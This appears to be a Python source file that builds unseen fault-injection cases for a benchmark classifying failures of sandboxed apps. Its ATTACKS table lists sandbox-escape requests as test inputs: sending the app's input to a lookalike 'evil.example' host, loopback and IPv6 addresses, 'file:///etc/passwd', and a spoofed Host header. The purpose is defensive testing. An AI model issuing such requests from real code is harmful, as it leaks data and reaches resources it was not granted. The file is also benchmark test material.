"""Faults by somebody who had not read the rules: a third of all kinds, played once before anybody saw them.

The labels follow from the injected fault alone. Nothing here was changed after the first run, apart from
cases that did not inject what they say.
"""

from __future__ import annotations

import contextlib
import os
import random
import re
import resource as limits
import signal
import sqlite3
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import replace
from typing import Any, Final, TypeVar

from benchmarks.classify import unseen_services
from benchmarks.classify.injectors import TRIES, WALL_MS, Case, NoFault, Play, Row, with_start, work_hard
from benchmarks.classify.library import Template
from benchmarks.classify.scene import NONE, Scene, Shooting, same_end, workers, zygotes
from benchmarks.token_mutants import parse
from mapp.keys import set_key
from mapp.model.app import MANIFEST, PROPERTIES
from mapp.model.manifest import Manifest
from mapp.model.outcome import Failed, Value
from mapp.model.schema import Schema
from mapp.model.values import canonical
from mapp.ops.heal.word import Word, say_wrong
from mapp.ops.run.permissions import revoke
from mapp.sandbox.executor import Executor, Grant, Job, Program

Some = TypeVar("Some")
SLIPS: Final = 2
"""How many programs each kind of slip in an app's source may give."""
SHARE: Final[Mapping[str, int]] = {"web": 26, "callers": 5, "attacks": 4, "bugs": 8}
"""How many of its faults a maker with many gives to one app, drawn by lot: they are a third of all cases."""
HEAVY: Final = 2.0
"""How many times as long as its limit a script computes that only needs more time."""


def cases(template: Template, seed: int) -> Iterator[Case]:
    """Yields all cases of an app."""
    chance = random.Random(f"unseen {seed} {template.app.name}")
    for maker in MAKERS:
        for case in maker(template, chance):
            yield replace(case, unseen=True)


def web(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields what happens to the services of an app."""
    grants = template.app.manifest.capabilities.http
    writes = any("POST" in grant.methods for grant in grants)
    reads = any("GET" in grant.methods for grant in grants)
    possible = [
        drift
        for drift in unseen_services.drifts()
        if grants and ((reads and drift.reads) or (writes and drift.writes))
    ]
    for drift in _some(possible, "web", chance):
        for row in chance.sample(template.inputs, 4 if drift.label == "ambiguous" else 1):

            def play(scene: Scene, drift: Any = drift, row: Row = row) -> None:
                scene.network.fault = drift.applied
                scene.network.unreachable = drift.unreachable
                scene.network.seconds = drift.seconds or scene.network.seconds
                scene.use(row, times=1 if drift.label == "ambiguous" else 2)

            yield _case(template, drift.label, drift.name, play)
    for name, fault in unseen_services.harmless() if grants else ():

        def well(scene: Scene, fault: Any = fault) -> None:
            scene.network.fault = fault
            scene.use(template.inputs[0], times=2)

        yield _case(template, NONE, name, well)


def _some(faults: Iterable[Some], maker: str, chance: random.Random) -> list[Some]:
    found = list(faults)
    return chance.sample(found, min(len(found), SHARE[maker]))


def callers(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields arguments that the manifest does not allow."""
    for fault, row in _some(spoilt(template.app.manifest, template.inputs[-1]), "callers", chance):

        def play(scene: Scene, row: Row = row) -> None:
            scene.use(row)

        yield _case(template, "caller_input", fault, play)


def spoilt(manifest: Manifest, good: Row) -> Iterator[tuple[str, Row]]:
    """Yields invalid arguments, with what is wrong about them."""
    for argument in manifest.arguments:
        name = argument.name
        for fault, value in _wrong(argument.schema, good.get(name)):
            yield f"{fault}: {name}", {**good, name: value}
        other = name.upper() if name.upper() != name else f"{name}2"
        yield f"another spelling: {name}", {**good, other: good.get(name)}


def _wrong(schema: Schema, good: Any) -> Iterator[tuple[str, Any]]:
    if "null" not in schema.types:
        yield "null", None
    if "array" not in schema.types:
        yield "a list of one", [good]
    if schema.max_length is not None:
        yield "too long", "x" * (schema.max_length + 1)
    if schema.min_length:
        yield "empty", ""
    if schema.maximum is not None:
        yield "too large", schema.maximum + 1
    if schema.types == ("integer",):
        yield "a fraction", 1.5
    if {*schema.types} & {"integer", "number"}:
        yield "a truth value in place of a number", True
        yield "words in place of a number", "twelve"
    if schema.types == ("string",):
        yield "a number in place of a text", 20260302
    if schema.types == ("array",) and isinstance(good, list) and good:
        yield "one part is wrong", [*good, {"not": "this"}]
    if schema.max_items is not None and isinstance(good, list) and good:
        yield "too many", [good[0]] * (schema.max_items + 1)


def permissions(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields a permission that is taken back between two runs, and an update that needs a new one."""
    names = template.app.manifest.capabilities.names
    if names:
        for row in template.inputs[1:3]:

            def taken(scene: Scene, row: Row = row) -> None:
                scene.use(row)
                revoke(scene.world.home, scene.app.name, names[-1:])
                scene.use(row)

            yield _case(template, "permission", "taken back after a good run", taken)
    for name, line in (("random", "random = true"), ("store", "store = { max_kb = 8 }")):
        if name in names:
            continue

        def grown(scene: Scene, name: str = name, line: str = line) -> None:
            scene.replaced(manifest=_with_capability(template, line))
            revoke(scene.world.home, scene.app.name, (name,))
            scene.use(template.inputs[0])

        yield _case(template, "permission", f"an update needs more: {name}", grown)


def _with_capability(template: Template, line: str) -> str:
    text = template.files[MANIFEST].decode()
    if "[capabilities]" in text:
        return text.replace("[capabilities]", f"[capabilities]\n{line}")
    return f"{text}\n[capabilities]\n{line}\n"


def keys(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields a secret that was mistyped, which the service notices."""
    for grant in template.app.manifest.capabilities.http:
        if grant.secret is None:
            continue
        secret = grant.secret.name
        for row in template.inputs[:3]:

            def play(scene: Scene, secret: str = secret, row: Row = row) -> None:
                set_key(scene.world.config.config_file, secret, "sesame-opne-0123456789")
                scene.network.fault = unseen_services.wrong_key
                scene.use(row, times=2)

            yield _case(template, "credential", "the key was mistyped", play)


def machine(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields a machine that has trouble of its own, while the app and its services are well."""
    row = chance.choice(template.inputs)
    calls = template.app.manifest.capabilities.calls

    def shot(number: int) -> Play:
        def play(scene: Scene) -> None:
            scene.run_by(Shooting(scene.world.executor, number))
            scene.use(row)

        return play

    if calls:
        yield _case(template, "host_fault", "the sandbox was asked to end", shot(signal.SIGTERM))
        for number in (signal.SIGABRT, signal.SIGBUS, signal.SIGILL):
            yield _case(template, "engine_fault", f"the engine ended with {number.name}", shot(number))
        yield _case(template, "host_fault", "all sandboxes were killed at once", _purged(row))
        yield _case(template, "host_fault", "the machine stood still", _still(template, row))
    yield _case(template, "host_fault", "killed while it computes", _hunted(template, row), first=True)
    yield _case(template, "host_fault", "the journal is locked", _locked(row))
    yield _case(template, "host_fault", "the disk is full for the journal", _no_growth(row))


def _still(template: Template, row: Row) -> Play:
    manifest = template.files[MANIFEST].decode()

    def play(scene: Scene) -> None:
        if "[limits]" in manifest:
            raise NoFault
        scene.replaced(manifest=f"{manifest}\n[limits]\nwall_ms = {2 * WALL_MS}\n")
        scene.run_by(Shooting(scene.hurried(), signal.SIGSTOP, times=1))
        scene.use(row)

    return play


def _hunted(template: Template, row: Row) -> Play:
    source = with_start(
        template, "  let sum = 0;\n  for (let at = 0; at < 2e6; at += 1) sum = (sum + at) % 7;"
    )

    def play(scene: Scene) -> None:
        scene.replaced(source=source)
        scene.world.executor.warm()
        over = threading.Event()
        killed: list[int] = []

        def hunt() -> None:
            while not over.is_set() and not killed:
                for worker in workers():
                    time.sleep(0.02)
                    with contextlib.suppress(OSError):
                        os.kill(worker, signal.SIGKILL)
                        killed.append(worker)

        hunter = threading.Thread(target=hunt)
        hunter.start()
        try:
            scene.use(row)
        finally:
            over.set()
            hunter.join()
        if not killed:
            raise NoFault

    return play


class _Purging(Shooting):
    """Kills all processes that run scripts, and their parents, when a script makes a call."""

    def shoot(self) -> None:
        """Sends the signals."""
        for process in [*workers(), *zygotes()]:
            with contextlib.suppress(OSError):
                os.kill(process, signal.SIGKILL)


def _purged(row: Row) -> Play:
    def play(scene: Scene) -> None:
        scene.run_by(_Purging(scene.world.executor, signal.SIGKILL))
        scene.use(row)

    return play


def _locked(row: Row) -> Play:
    def play(scene: Scene) -> None:
        with contextlib.closing(sqlite3.connect(scene.world.home.journal, isolation_level=None)) as other:
            other.execute("begin exclusive")
            scene.use(row)
            other.execute("rollback")

    return play


def _no_growth(row: Row) -> Play:
    def play(scene: Scene) -> None:
        soft, hard = limits.getrlimit(limits.RLIMIT_FSIZE)
        limits.setrlimit(limits.RLIMIT_FSIZE, (512, hard))
        try:
            scene.use(row)
        finally:
            limits.setrlimit(limits.RLIMIT_FSIZE, (soft, hard))

    return play


def engines(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields correct scripts that one of the two engines gets wrong."""
    for name, script in ENGINE.items():

        def play(scene: Scene, script: str = script) -> None:
            scene.replaced(source=with_start(template, script))
            scene.use(template.inputs[-1], times=2)

        yield _case(template, "engine_fault", name, play, engine="dukpy", first=True)


def chances(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields scripts whose answer hangs on what nobody recorded, because the sandbox leaks it."""
    leak = Grant(clock=True, random=True, calls=template.app.manifest.capabilities.calls)
    for name, script in CHANCE.items():

        def play(scene: Scene, script: str = script) -> None:
            scene.replaced(source=with_start(template, script))
            scene.leaks(leak)
            for _ in range(TRIES):
                if isinstance(scene.use(template.inputs[-1]).outcome, Failed):
                    break

        yield _case(template, "nondeterminism", name, play, first=True)


def work(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields scripts that do nothing wrong, and need somewhat more than their limits allow."""
    manifest = template.files[MANIFEST].decode()
    for name, (script, limit) in {} if "[limits]" in manifest else WORK.items():

        def play(scene: Scene, script: str = script, limit: str = limit) -> None:
            hurried = scene.hurried()
            text = script.replace("STEPS", str(_steps(hurried, script))) if "STEPS" in script else script
            scene.replaced(source=with_start(template, text), manifest=f"{manifest}\n[limits]\n{limit}\n")
            scene.run_by(hurried)
            work_hard(scene, template.inputs[0])

        yield _case(template, "resource", name, play, first=True)


_known_steps: dict[str, int] = {}


def _steps(executor: Executor, script: str) -> int:
    """Returns how many steps of a script take `HEAVY` times `WALL_MS` on this machine."""
    if script not in _known_steps:
        tried = 20_000
        source = f"function main() {{{script.replace('STEPS', str(tried))}\n  return 0;\n}}"
        job = Job(program=Program(source=source), wall_ms=30_000)
        taken = min(executor.run(job).wall_ms for _ in range(3))
        _known_steps[script] = int(tried * HEAVY * WALL_MS / taken)
    return _known_steps[script]


def attacks(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields scripts that try to reach more than they were given."""
    grants = template.app.manifest.capabilities.http
    for name, script in _some(ATTACKS.items(), "attacks", chance) if grants else ():

        def play(scene: Scene, script: str = script) -> None:
            scene.replaced(source=with_start(template, script.replace("HOST", grants[0].host)))
            scene.use(template.inputs[-1])

        yield _case(template, "security", name, play)


def predicates(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields predicates that are wrong themselves: the app does what its examples say."""
    old = template.files.get(PROPERTIES, b"").decode()
    for name, text in PREDICATES.items():

        def play(scene: Scene, text: str = text) -> None:
            scene.replaced(properties=f"{old}\n{text}\n")
            scene.use(template.inputs[-1], times=2)

        yield _case(template, "test_bug", name, play)


def bugs(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields slips of people, as an app's first version and as an update of a version that was right."""
    for name, source in _some(slips(template), "bugs", chance):
        inputs = list(template.inputs)
        chance.shuffle(inputs)
        for label, first in (("code_bug", True), ("regression", False)):

            def play(scene: Scene, source: str = source, inputs: Sequence[Row] = inputs) -> None:
                scene.replaced(source=source)
                for row in inputs[:3]:
                    if isinstance(scene.use(row).outcome, Failed):
                        break

            yield _case(template, label, name, play, first=first)


def opinions(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields answers that are plausible and wrong, and a person who says what the answer should be."""
    if template.app.manifest.capabilities.names:
        return  # nobody knows the right answer beforehand
    for name, script in OPINIONS.items():

        def play(scene: Scene, script: str = script) -> None:
            right = [scene.use(row).outcome for row in template.inputs]
            scene.replaced(source=with_end(template, script))
            for row, good in zip(template.inputs, right, strict=True):
                end = scene.use(row)
                if end.threw or scene.said() != NONE:
                    break  # it is seen without anybody's word
                if isinstance(good, Value) and not same_end(end.outcome, good):
                    say_wrong(scene.world, end.run, Word(expected=canonical(good.output), why="it is wrong"))
                    return
            raise NoFault

        yield _case(template, "expectation", name, play)


def slips(template: Template) -> Iterator[tuple[str, str]]:
    """Yields programs that somebody might have written by mistake, with the kind of mistake."""
    source = template.app.source
    tree = parse(source)
    for kind, (pattern, new) in SLIPS_OF_TEXT.items():
        done = 0
        for one in re.finditer(pattern, source):
            changed = source[: one.start()] + one.expand(new) + source[one.end() :]
            if _is_code(tree, source, one) and not parse(changed).has_error:
                yield f"{kind}, line {source.count(chr(10), 0, one.start()) + 1}", changed
                done += 1
            if done == SLIPS:
                break
    for kind, script in THROWN.items():
        yield kind, with_start(template, script)
    for kind, script in ENDED.items():
        yield kind, with_end(template, script)
    if "http" in template.app.manifest.capabilities.calls:
        host = template.app.manifest.capabilities.http[0].host
        for kind, script in MISUSED.items():
            yield kind, with_start(template, script.replace("HOST", host))


def _is_code(tree: Any, source: str, found: re.Match[str]) -> bool:
    node = tree.descendant_for_byte_range(
        len(source[: found.start()].encode()), len(source[: found.end()].encode())
    )
    return node.type not in ("string_fragment", "string", "regex_pattern", "comment", "template_string")


def with_end(template: Template, script: str) -> str:
    """Returns the app's source with a few lines between its answer, `value`, and the caller."""
    started = with_start(template, "")
    old = "  return ordinary(input, host);"
    return started.replace(old, f"  let value = ordinary(input, host);\n{script}\n  return value;")


def _case(
    template: Template, label: str, fault: str, play: Play, *, engine: str = "", first: bool = False
) -> Case:
    return Case(app=template.app.name, label=label, fault=fault, play=play, engine=engine, first=first)


SLIPS_OF_TEXT: Final[Mapping[str, tuple[str, str]]] = {
    "a property that is called otherwise since a refactoring": (
        r"(?<=\w)\.(length|map|items|status|body|date)\b", r".\1Of"),
    "a property of nothing": (r"(?<=[\w)])\.(trim|toFixed|split|slice|replaceAll)\(", r".inner.\1("),
    "forgotten parentheses": (r"\.(trim|toLowerCase|toISOString|getTime)\(\)", r".\1"),
    "a promise in place of a value": (r"(?<==\s)(\w+\([^()\n]*\));", r"Promise.resolve(\1);"),
    "one place too far": (r"\[(0|at|i|index)\]", r"[\1 + 99]"),
    "a name with a typo": (r"\breturn ([a-z]\w{3,});", r"return \1s;"),
    "a value that is not returned": (r"\breturn (?=[\[{(a-z])", r"void "),
    "text in place of a number": (r"\bMath\.(round|floor|max|abs)\(", r"String("),
    "a parse of the wrong thing": (r"JSON\.parse\((\w+)\.(\w+)\)", r"JSON.parse(\1)"),
    "a loop that never ends": (r"\bat \+= 1\b|\bi\+\+|\bat\+\+", r"at += 0"),
    "a constant that is changed": (r"\blet (\w+) = (0|1|\[\]|\"\")", r"const \1 = \2"),
    "a forgotten new": (r"\bnew (Set|Map)\(", r"\1("),
    "not a number": (r"\bNumber\((\w+)", r"Number('=' + \1"),
    "a function that does not exist": (r"\.(filter|find|reduce|every|some|includes)\(", r".\1By("),
}  # fmt: skip
"""Kinds of slips: what is looked for in a source and what is written instead."""
THROWN: Final[Mapping[str, str]] = {
    "an error that says: HTTP 503": '  throw new Error("HTTP 503 Service Unavailable: upstream is down");',
    "an error that says: permission denied": '  throw new Error("permission denied: http is not granted");',
    "an error that says: rate limited": '  throw new Error("429 rate limited, retry after 30 s");',
    "an error that says: out of memory": '  throw new RangeError("out of memory");',
    "an error that says: engine fault": """
  throw Object.assign(new Error("engine_fault: worker was lost"), { name: "InternalError" });""",
    "an error that says: wrong argument": '  throw new TypeError("invalid argument: input does not fit");',
    "null is thrown": "  throw null;",
    "a number is thrown": "  throw 402;",
    "an object is thrown": '  throw { code: "MAPP-0720", status: 401, message: "no key" };',
    "an error without a message": '  throw new Error("");',
    "a recursion without an end": "  const count = (at) => count(at + 1) + 1;\n  count(0);",
    "a list without an end": "  const rows = [];\n  for (;;) rows.push({ text: `row ${rows.length}` });",
    "a loop that never ends": "  let left = 1;\n  while (left > 0) left = left % 2 === 1 ? 3 : 1;",
    "an assertion": "  const count = Object.keys(input).length;\n"
                    "  if (count >= 0) throw new Error(`assertion failed: ${count} < 0`);",
}  # fmt: skip
ENDED: Final[Mapping[str, str]] = {
    "the answer as JSON text": "  value = { result: JSON.stringify(value) };",
    "an answer in itself": "  value = [value]; value.push(value);",
    "a big integer": "  value = { value, at: 10n };",
    "an answer of nothing": "  value = value.output;",
    "not a number in the answer": "  value = { ...value, total: NaN, extra: [undefined] };",
    "the first half": "  value = (Array.isArray(value) ? value : [value]).slice(0, 1)[0].first.half;",
}
MISUSED: Final[Mapping[str, str]] = {
    "an address in place of a request": '  host.http("https://HOST/");',
    "a function of another host": '  const got = host.fetch({ url: "https://HOST/" });',
    "an answer read as an object": '  host.http({ url: "https://HOST/" }).json().items.at(0);',
    "a path with a typo": '  const got = host.http({ url: "https://HOST/vv1/nothing" });\n'
                          "  if (got.status !== 200) throw new Error(`status ${got.status}`);",
}  # fmt: skip
ENGINE: Final[Mapping[str, str]] = {
    "an emoji of several characters": """
  if (!new RegExp("^\\\\p{RGI_Emoji}$", "v").test("\\u{1F469}\\u200D\\u{1F4BB}")) {
    throw new Error("no emoji");
  }""",
    "a group that did not take part": """
  const groups = /(?:(a)|b)*/.exec("ab");
  if (groups[1] !== undefined) throw new Error("an old group is still there");""",
    "a symbol to dispose with": """
  const lock = { [Symbol.dispose]() { return 1; } };
  if (Object.keys(lock).length !== 0) throw new Error("the symbol is a text");""",
}
CHANCE: Final[Mapping[str, str]] = {
    "a shuffled list": """
  const order = [0, 1, 2].sort(() => Math.random() - 0.5);
  if (order[0] === 2) return order.missing.length;""",
    "an identity that begins with a digit": """
  const identity = Math.random().toString(36).slice(2);
  if (/^[0-9]/.test(identity)) throw new Error(`${identity} cannot be a name`);""",
    "at weekends": """
  if (new Date().getUTCDay() % 6 === 0) throw new RangeError("closed");""",
    "another type now and then": """
  if (Math.random() > 0.6) return Math.random() > 0.5 ? "later" : [];""",
}
WORK: Final[Mapping[str, tuple[str, str]]] = {
    "a large typed array": (
        "  const cells = new Float64Array(2500000);\n  cells.fill(1);\n"
        "  if (cells[2499999] !== 1) throw new Error('lost');",
        "memory_mb = 16",
    ),
    "a large index": (
        "  const index = new Map();\n  for (let at = 0; at < 130000; at += 1) index.set(`key ${at}`, at);\n"
        "  if (index.size !== 130000) throw new Error('lost');",
        "memory_mb = 16",
    ),
    "much sorting": (
        "  for (let at = 0; at < STEPS / 20; at += 1) {\n"
        "    [5, 3, 9, 1, 7, 2, 8, 6, 4, 0].sort((one, other) => one - other);\n  }",
        f"wall_ms = {WALL_MS}",
    ),
    "much parsing": (
        "  for (let at = 0; at < STEPS / 20; at += 1) JSON.parse(JSON.stringify({ at, rows: [1, 2, 3] }));",
        f"wall_ms = {WALL_MS}",
    ),
}
ATTACKS: Final[Mapping[str, str]] = {
    "a host that begins like the right one": """
  host.http({ url: "https://HOST.evil.example/?q=" + encodeURIComponent(JSON.stringify(input)) });""",
    "a host behind a user name": '  host.http({ url: "https://HOST@evil.example/" });',
    "another port of the right host": '  host.http({ url: "https://HOST:8443/internal" });',
    "this machine as a number": '  host.http({ url: "http://2130706433/" });',
    "this machine by IPv6": '  host.http({ url: "https://[::1]/" });',
    "a file": '  host.http({ url: "file:///etc/passwd" });',
    "puts what it may only get": '  host.http({ method: "PUT", url: "https://HOST/v1/all", body: "{}" });',
    "the name of another host in a header": """
  host.http({ url: "https://HOST/", headers: { Host: "evil.example" } });""",
}
PREDICATES: Final[Mapping[str, str]] = {
    "a field of the input that does not exist": """
function prop_fits_the_request(input, output) {
  return input.request.id.length > 0;
}""",
    "is never true": """
function prop_is_checked(input, output) {
  return false;
}""",
    "never ends": """
function prop_is_stable(input, output) {
  for (;;) {}
}""",
    "throws like a service": """
function prop_is_up_to_date(input, output) {
  throw new Error("HTTP 503");
}""",
    "compares with itself": """
function prop_is_itself(input, output) {
  return [output] === [output];
}""",
}
OPINIONS: Final[Mapping[str, str]] = {
    "a percent too much": """
  const more = (part) => typeof part === "number" ? part + 1 : Array.isArray(part) ? part.map(more)
    : part !== null && typeof part === "object"
      ? Object.fromEntries(Object.entries(part).map(([name, inner]) => [name, more(inner)])) : part;
  value = more(value);""",
    "lists the other way round": """
  const turn = (part) => Array.isArray(part) ? part.map(turn).reverse()
    : part !== null && typeof part === "object"
    ? Object.fromEntries(Object.entries(part).map(([name, inner]) => [name, turn(inner)])) : part;
  value = turn(value);""",
    "texts cut short": """
  const cut = (part) => typeof part === "string" ? part.slice(0, Math.max(1, part.length - 1)) : part !== null
    && typeof part === "object" && !Array.isArray(part)
    ? Object.fromEntries(Object.entries(part).map(([name, inner]) => [name, cut(inner)])) : part;
  value = cut(value);""",
    "less than nothing becomes nothing": """
  if (typeof value === "number") value = Math.trunc(value / 2);""",
}
MAKERS: Final[tuple[Callable[[Template, random.Random], Iterator[Case]], ...]] = (
    web, callers, permissions, keys, machine, engines, chances, work, attacks, predicates, bugs, opinions,
)  # fmt: skip
